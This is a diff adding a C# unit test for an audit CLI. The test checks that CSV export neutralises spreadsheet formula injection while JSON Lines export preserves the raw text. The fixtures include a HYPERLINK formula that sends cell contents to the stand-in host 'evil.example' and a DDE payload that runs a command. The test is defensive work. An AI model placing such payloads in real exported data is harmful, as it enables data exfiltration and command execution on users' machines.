@@ -97,6 +97,22 @@ public sealed class AuditCliDisplayTests(AzuriteFixture azurite) : IAsyncLifetim
         }
     }
 
+    [Fact]
+    public async Task ExportCsv_NeutralisesFormulaCells_WhileJsonLinesKeepsTheTextExact()
+    {
+        var (exit, csv, _) = await RunAsync("export", "--format", "csv", "--from", "2024-10-08");
+        var (_, jsonl, _) = await RunAsync("export", "--format", "jsonl", "--from", "2024-10-08");
+
+        Assert.Equal(0, exit);
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open\"\")", csv);
+        Assert.Contains(",'=cmd|' /C calc'!A0,", csv);
+        Assert.Contains(",\"'+1 answer\r\n@SUM(1+1)", csv);
+        var record = System.Text.Json.JsonDocument.Parse(jsonl).RootElement;
+        Assert.Equal("=cmd|' /C calc'!A0", record.GetProperty("InvocationId").GetString());
+        Assert.StartsWith("=HYPERLINK(", record.GetProperty("UserAgent").GetString());
+        Assert.StartsWith("+1 answer\r\n", record.GetProperty("ResponseText").GetString());
+    }
+
     /// <summary>No escape, other control (but newline and tab, which bodies keep), C1, bidi, zero-width or other invisible format character.</summary>
     private static void AssertNothingInterpretable(string text)
     {
